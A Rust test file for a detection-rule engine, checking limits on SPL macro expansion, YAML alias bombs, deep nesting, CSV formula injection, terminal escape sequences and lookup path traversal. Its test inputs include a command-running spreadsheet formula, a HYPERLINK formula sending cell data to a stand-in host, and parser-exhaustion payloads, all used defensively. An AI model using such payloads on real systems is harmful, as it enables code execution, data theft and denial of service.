//! Bad input: every file of `fixtures/bad/` gives the error its README row names, and
//! inputs too large to commit are built in memory to hit each size limit.

use std::collections::BTreeMap;
use std::fmt::Write as _;
use std::path::Path;
use std::time::{Duration, Instant};

use crate::support::{files_below, fixture, repo_root, with_snapshots};
use detection::attack::Attack;
use detection::content::validate::check_detection;
use detection::content::{
    self, Detection, MAX_CONTENT_FILE_BYTES, MAX_YAML_NESTING, Macro, RuleError,
};
use detection::datamodel::NodeRecord;
use detection::eval::MAX_GROUPS;
use detection::events::EventReader;
use detection::spl::{
    MAX_EXPANDED_LEN, MAX_MACRO_CALLS, MAX_MACRO_DEPTH, MAX_SEARCH_LEN, MacroDefinition,
    MacroTable, Search,
};

#[test]
fn search_with_many_distinct_fields_compiles_in_linear_time() {
    // 40,000 distinct `Processes.f<i>` fields (750 KB) took 22 s in a debug build when each
    // field's token was looked up from the start; it takes well under a second now.
    let mut search = String::from("| tstats count from datamodel=Endpoint.Processes where");
    for i in 0..40_000 {
        write!(search, " Processes.f{i}=v").unwrap();
    }
    let start = Instant::now();
    let compiled = Search::compile(&search, &MacroTable::new(), "rule_filter");
    assert!(compiled.is_ok(), "{:?}", compiled.err());
    assert!(start.elapsed() < Duration::from_secs(5), "took {:?}", start.elapsed());
}

fn definition(name: &str, arguments: &[&str], definition: &str) -> MacroDefinition {
    MacroDefinition {
        name: name.to_owned(),
        arguments: arguments.iter().map(|a| (*a).to_owned()).collect(),
        definition: definition.to_owned(),
    }
}

#[track_caller]
fn compile_error(search: &str, macros: &MacroTable) -> String {
    match Search::compile(search, macros, "rule_filter") {
        Ok(compiled) => panic!("compiled: {compiled}"),
        Err(error) => error.to_string(),
    }
}

const TSTATS: &str = "| tstats count from datamodel=Endpoint.Processes";

#[test]
fn macro_chain_deeper_than_the_limit_is_an_error() {
    let chain: MacroTable = (0..=MAX_MACRO_DEPTH)
        .map(|i| definition(&format!("m{i}"), &[], &format!("`m{}`", i + 1)))
        .chain([definition(&format!("m{}", MAX_MACRO_DEPTH + 1), &[], "search *")])
        .collect();
    let error = compile_error(&format!("{TSTATS} | `m0`"), &chain);
    assert!(
        error.ends_with(&format!("macros nest deeper than {MAX_MACRO_DEPTH} levels")),
        "{error}"
    );
    // One level less expands.
    let shallow: MacroTable = (0..MAX_MACRO_DEPTH - 1)
        .map(|i| definition(&format!("m{i}"), &[], &format!("`m{}`", i + 1)))
        .chain([definition(&format!("m{}", MAX_MACRO_DEPTH - 1), &[], "search *")])
        .collect();
    assert!(Search::compile(&format!("{TSTATS} | `m0`"), &shallow, "rule_filter").is_ok());
}

#[test]
fn macro_fan_out_past_the_call_limit_is_an_error() {
    // 200 × 200 calls of a macro that expands to nothing visible.
    let fan: MacroTable = [
        definition("wide", &[], &"`mid`".repeat(200)),
        definition("mid", &[], &"`leaf`".repeat(200)),
        definition("leaf", &[], ""),
    ]
    .into_iter()
    .collect();
    let error = compile_error(&format!("{TSTATS} | search * `wide`"), &fan);
    assert!(
        error.ends_with(&format!("macro expansion exceeds {MAX_MACRO_CALLS} calls")),
        "{error}"
    );
}

#[test]
fn argument_repeated_past_the_size_limit_is_an_error_before_it_is_built() {
    // 300,000 `$x$` with a 4 KB argument would be 1.2 GB of text; expansion stops at 1 MiB.
    let repeat: MacroTable =
        [definition("rep", &["x"], &"$x$".repeat(300_000))].into_iter().collect();
    let search = format!("{TSTATS} | search `rep({})`", "a".repeat(4096));
    let start = Instant::now();
    let error = compile_error(&search, &repeat);
    assert!(
        error.ends_with(&format!("macro expansion exceeds {MAX_EXPANDED_LEN} bytes")),
        "{error}"
    );
    assert!(start.elapsed() < Duration::from_secs(5), "took {:?}", start.elapsed());
}

/// A rule in the 2021 schema whose search is `search`.
fn rule_yaml(search: &str) -> String {
    format!(
        "name: Long Search\nid: 4f5c8a2e-0d7b-4e44-9b1f-3c2d1e0f9a8b\nversion: 1\ndate: '2021-01-01'\n\
         author: Test\ntype: TTP\ndescription: x\nsearch: '{search}'\nhow_to_implement: x\n\
         known_false_positives: x\nreferences: []\ntags:\n  analytic_story: [x]\n  \
         mitre_attack_id: [T1003.001]\n  confidence: 100\n  impact: 90\n  risk_score: 90\n"
    )
}

#[test]
fn megabytes_long_search_loads_and_compiles_to_a_size_error() {
    let search = format!("{TSTATS} where {}", "Processes.process=x ".repeat(150_000));
    assert!(search.len() > 2 * MAX_SEARCH_LEN);
    let path = Path::new("detections/endpoint/long_search.yml");
    let rule = Detection::from_yaml(&rule_yaml(&search), path).unwrap_or_else(|e| panic!("{e}"));
    let error = compile_error(&rule.search, &MacroTable::new());
    assert_eq!(error, format!("search: col 1: search longer than {MAX_SEARCH_LEN} bytes"));
    // Validation reads the search too and must finish.
    let attack = Attack::bundled().unwrap();
    let findings = check_detection(&rule, &BTreeMap::new(), &attack);
    drop(findings);
}

#[test]
fn rule_file_over_the_size_cap_is_an_error_naming_it() {
    let dir = tempfile::tempdir().unwrap();
    let folder = dir.path().join("detections/endpoint");
    std::fs::create_dir_all(&folder).unwrap();
    let rule = rule_yaml(&format!("{TSTATS} by Processes.dest"));
    // A comment pads the file to exactly the cap: still read.
    let cap = usize::try_from(MAX_CONTENT_FILE_BYTES).unwrap();
    let at_cap = format!("{rule}#{}\n", " ".repeat(cap - rule.len() - 2));
    assert_eq!(at_cap.len(), cap);
    let path = folder.join("at_cap.yml");
    std::fs::write(&path, &at_cap).unwrap();
    assert!(content::load_rule(&path).is_ok());
    // One byte more is refused before parsing.
    let path = folder.join("over_cap.yml");
    std::fs::write(&path, format!("{at_cap} ")).unwrap();
    let error = content::load_rule(&path).unwrap_err();
    assert!(matches!(error, RuleError::TooLarge { .. }), "{error}");
    assert_eq!(
        error.to_string(),
        format!("{}: file larger than {MAX_CONTENT_FILE_BYTES} bytes", path.display())
    );
    let error = content::load_macro(&path).unwrap_err();
    assert!(matches!(error, RuleError::TooLarge { .. }), "{error}");
}

/// Nine levels of nine aliases each: 9^9 (387 million) strings if expanded.
fn alias_bomb() -> String {
    let mut yaml = String::from("a0: &a0 [lol, lol, lol, lol, lol, lol, lol, lol, lol]\n");
    for level in 1..9 {
        let previous = format!("*a{}", level - 1);
        let items = [previous.as_str(); 9].join(", ");
        writeln!(yaml, "a{level}: &a{level} [{items}]").unwrap();
    }
    yaml
}

#[test]
fn yaml_alias_bomb_is_never_expanded() {
    let start = Instant::now();
    let rule = rule_yaml(&format!("{TSTATS} by Processes.dest"));
    let path = Path::new("detections/endpoint/alias_bomb.yml");
    // Under keys the schema does not read, the aliases are skipped unexpanded.
    let ignored = format!("{}laughs: *a8\n{rule}", alias_bomb());
    assert!(Detection::from_yaml(&ignored, path).is_ok());
    // Under a key it reads, the nesting is the wrong type at its first element.
    let typed = format!("{}{}", alias_bomb(), rule.replace("references: []", "references: *a8"));
    let error = Detection::from_yaml(&typed, path).unwrap_err();
    assert!(
        error.to_string().ends_with("references[0]: invalid type: sequence, expected a string")
    );
    let error = Macro::from_yaml(&format!("{}definition: *a8\n", alias_bomb()), path).unwrap_err();
    assert!(error.to_string().contains("invalid type: sequence, expected a string"), "{error}");
    // Were a free-form field ever added, serde_yaml itself refuses to expand the bomb.
    let error = serde_yaml::from_str::<serde_yaml::Value>(&alias_bomb()).unwrap_err();
    assert!(error.to_string().contains("repetition limit exceeded"), "{error}");
    assert!(start.elapsed() < Duration::from_secs(5), "took {:?}", start.elapsed());
}

#[test]
fn more_tstats_groups_than_the_limit_is_an_error() {
    let search = Search::compile(
        &format!("{TSTATS} by Processes.process_id"),
        &MacroTable::new(),
        "rule_filter",
    )
    .unwrap();
    let mut run = search.start();
    let mut record = NodeRecord { node: "Processes", time_micros: 0, fields: BTreeMap::new() };
    for id in 0..MAX_GROUPS {
        record.fields.insert("process_id", id.to_string());
        run.add(&record).unwrap_or_else(|error| panic!("group {id}: {error}"));
    }
    // A record of an existing group still counts; one more group is refused.
    record.fields.insert("process_id", "0".to_owned());
    run.add(&record).unwrap();
    record.fields.insert("process_id", "new".to_owned());
    let error = run.add(&record).unwrap_err();
    assert!(error.to_string().contains(&format!("{MAX_GROUPS}")), "{error}");
}

/// `error` and its sources on one line, with the checkout's root removed.
fn error_chain(error: &dyn std::error::Error) -> String {
    detection::error_chain(error).replace(&format!("{}/", repo_root().display()), "")
}

fn rule_error_text(error: &RuleError) -> String {
    error.to_string().replace(&format!("{}/", repo_root().display()), "")
}

/// The errors `path` gives in strict mode, at most ten, one a line; empty when it reads.
fn event_errors(path: &Path) -> String {
    let name = path.strip_prefix(repo_root()).unwrap_or(path).display().to_string();
    let file = std::fs::File::open(path).unwrap();
    let reader = match EventReader::from_reader(&name, file) {
        Ok(reader) => reader.strict(true),
        Err(error) => return error_chain(&error),
    };
    let errors: Vec<String> =
        reader.filter_map(Result::err).take(10).map(|error| error_chain(&error)).collect();
    errors.join("\n")
}

fn bad_spl_macros() -> MacroTable {
    let text = std::fs::read_to_string(fixture("bad/spl/macros.yml")).unwrap();
    let definitions: Vec<MacroDefinition> = serde_yaml::from_str(&text).unwrap();
    definitions.into_iter().collect()
}

#[test]
fn every_bad_fixture_gives_its_error() {
    let bad = fixture("bad");
    let macros = bad_spl_macros();
    let mut seen = 0;
    for path in files_below(&bad) {
        let relative = path.strip_prefix(&bad).unwrap().to_string_lossy().into_owned();
        let folder = relative.split('/').next().unwrap_or_default();
        let error = match folder {
            _ if relative == "README.md" || relative == "spl/macros.yml" => continue,
            "events" => event_errors(&path),
            // A rule error's message already holds its source's text.
            "rules" => {
                content::load_rule(&path).err().map(|e| rule_error_text(&e)).unwrap_or_default()
            }
            "macros" => {
                content::load_macro(&path).err().map(|e| rule_error_text(&e)).unwrap_or_default()
            }
            "spl" => {
                let search = std::fs::read_to_string(&path).unwrap();
                let search = search.strip_suffix('\n').unwrap_or(&search);
                Search::compile(search, &macros, "bad_filter")
                    .err()
                    .map(|e| e.to_string())
                    .unwrap_or_default()
            }
            other => panic!("fixtures/bad/{other}: no test reads this folder"),
        };
        assert!(!error.is_empty(), "fixtures/bad/{relative} gave no error");
        let name = relative.replace('/', "-");
        with_snapshots(|| insta::assert_snapshot!(format!("error@{name}"), error));
        seen += 1;
    }
    assert!(seen >= 30, "only {seen} bad fixtures");
}
#[test]
fn deeply_nested_yaml_is_refused_before_parsing() {
    // 400,000 levels fit in a 1 MiB file and took the YAML parser minutes.
    let depth = 400_000;
    let nested = format!("nesting: {}{}\n", "[".repeat(depth), "]".repeat(depth));
    let path = Path::new("detections/endpoint/deep.yml");
    let start = Instant::now();
    let error = Detection::from_yaml(&format!("{nested}{}", rule_yaml("x")), path).unwrap_err();
    assert_eq!(
        error.to_string(),
        format!(
            "detections/endpoint/deep.yml: brackets nested deeper than {MAX_YAML_NESTING} levels"
        )
    );
    let error = Macro::from_yaml(&format!("{nested}name: m\ndefinition: x\n"), path).unwrap_err();
    assert!(matches!(error, RuleError::TooDeep { .. }), "{error}");
    assert!(start.elapsed() < Duration::from_secs(5), "took {:?}", start.elapsed());
    // At the limit the file is parsed as usual.
    let at_limit = format!(
        "nesting: {}{}\n{}",
        "[".repeat(MAX_YAML_NESTING),
        "]".repeat(MAX_YAML_NESTING),
        rule_yaml("x")
    );
    assert!(Detection::from_yaml(&at_limit, path).is_ok());
}

/// Sysmon process launches as flat JSON lines, one per command line, all at one time.
fn json_launches(commands: &[&str]) -> String {
    commands
        .iter()
        .map(|command| {
            serde_json::json!({
                "EventID": 1,
                "Channel": "Microsoft-Windows-Sysmon/Operational",
                "@timestamp": "2021-01-01T00:00:00Z",
                "Hostname": "ws01",
                "Image": r"C:\Windows\System32\cmd.exe",
                "CommandLine": command,
                "User": r"LAB\alice",
            })
            .to_string()
                + "\n"
        })
        .collect()
}

/// The rows of `| tstats count … by Processes.process` over `commands` logged as events:
/// CSV, raw CSV and the text table, one after another.
fn outputs_of_logged_commands(commands: &[&str]) -> String {
    let dir = tempfile::tempdir().unwrap();
    let path = dir.path().join("launches.json");
    std::fs::write(&path, json_launches(commands)).unwrap();
    let search = Search::compile(
        "| tstats count from datamodel=Endpoint.Processes by Processes.process",
        &MacroTable::new(),
        "none_filter",
    )
    .unwrap();
    let outcome =
        detection::scan::scan_files(&[&search], &[path], detection::scan::ScanOptions::default())
            .unwrap();
    let table = &outcome.tables[0];
    let (mut csv, mut raw, mut text) = (Vec::new(), Vec::new(), Vec::new());
    table.write_csv(&mut csv).unwrap();
    table.write_csv_raw(&mut raw).unwrap();
    table.write_text(&mut text).unwrap();
    let [csv, raw, text] = [csv, raw, text].map(|bytes| String::from_utf8(bytes).unwrap());
    format!("csv:\n{csv}\nraw csv:\n{raw}\ntext:\n{text}")
}

#[test]
fn csv_cells_a_spreadsheet_would_run_are_neutralised() {
    // OWASP's CSV injection guidance: cells starting with `=`, `+`, `-`, `@`, tab or CR get a
    // leading `'` and quotes; the raw writer keeps every value exact.
    let commands = [
        "=cmd|' /C calc'!A0",
        "+1+2",
        "-2+3",
        "@SUM(1,2)",
        "\t=1+1",
        "\r=1+1",
        "=HYPERLINK(\"http://x.test/?\"&A1)",
        "plain, with a comma",
        "a=b-c+d@e",
    ];
    let outputs = outputs_of_logged_commands(&commands);
    let csv = outputs.split("raw csv:").next().unwrap();
    for line in csv.lines().skip(2) {
        let first = line.trim_start_matches('"').chars().next();
        assert!(!matches!(first, Some('=' | '+' | '-' | '@' | '\t' | '\r')), "{line:?}");
    }
    with_snapshots(|| insta::assert_snapshot!("outputs@formulas", outputs));
}

#[test]
fn text_table_escapes_control_characters_and_keeps_a_row_per_value() {
    // A line break must not forge a row; ESC, BEL and NUL must not reach the terminal, nor
    // a mark that reverses the text after it.
    let commands = [
        "evil\n  forged-row                 1",
        "\u{1b}[2J\u{1b}]0;owned\u{7}clear",
        "nul\u{0}byte",
        "rtl \u{202e}exe.txt",
        r"C:\Windows\System32\rundll32.exe plain",
    ];
    let outputs = outputs_of_logged_commands(&commands);
    let text = outputs.split("text:\n").nth(1).unwrap();
    assert!(!text.contains(['\u{1b}', '\u{7}', '\u{0}', '\u{202e}']), "{text:?}");
    // The header, its rule and one line per row.
    assert_eq!(text.lines().count(), 2 + commands.len(), "{text}");
    with_snapshots(|| insta::assert_snapshot!("outputs@control_characters", outputs));
}

#[test]
fn lookup_definitions_have_the_limits_of_rules() {
    // Lookup definitions were read whole and parsed without the nesting guard, so `validate`
    // and `run` spent minutes on a 1 MiB `[[[…]]]` file under `lookups/`.
    let dir = tempfile::tempdir().unwrap();
    let lookups = dir.path().join("lookups");
    std::fs::create_dir_all(&lookups).unwrap();
    let depth = 300_000;
    let deep = format!("name: deep\nnesting: {}{}\n", "[".repeat(depth), "]".repeat(depth));
    std::fs::write(lookups.join("deep.yml"), deep).unwrap();
    let start = Instant::now();
    let error = detection::lookup::Lookups::load(dir.path()).unwrap_err().to_string();
    assert!(error.ends_with("deep.yml: brackets nested deeper than 1000 levels"), "{error}");
    assert!(start.elapsed() < Duration::from_secs(10), "took {:?}", start.elapsed());

    std::fs::remove_file(lookups.join("deep.yml")).unwrap();
    let cap = usize::try_from(MAX_CONTENT_FILE_BYTES).unwrap();
    std::fs::write(lookups.join("big.yml"), format!("name: big\n#{}\n", " ".repeat(cap))).unwrap();
    let error = detection::lookup::Lookups::load(dir.path()).unwrap_err().to_string();
    assert!(error.ends_with("big.yml: file larger than 1048576 bytes"), "{error}");

    // A definition's file name is a file in `lookups/`, never a path out of it.
    std::fs::remove_file(lookups.join("big.yml")).unwrap();
    std::fs::write(dir.path().join("secret.csv"), "a\nb\n").unwrap();
    std::fs::write(lookups.join("out.yml"), "name: out\nfilename: ../secret.csv\n").unwrap();
    let error = detection::lookup::Lookups::load(dir.path()).unwrap_err().to_string();
    assert!(error.contains("`../secret.csv` is not a file name in lookups/"), "{error}");
}
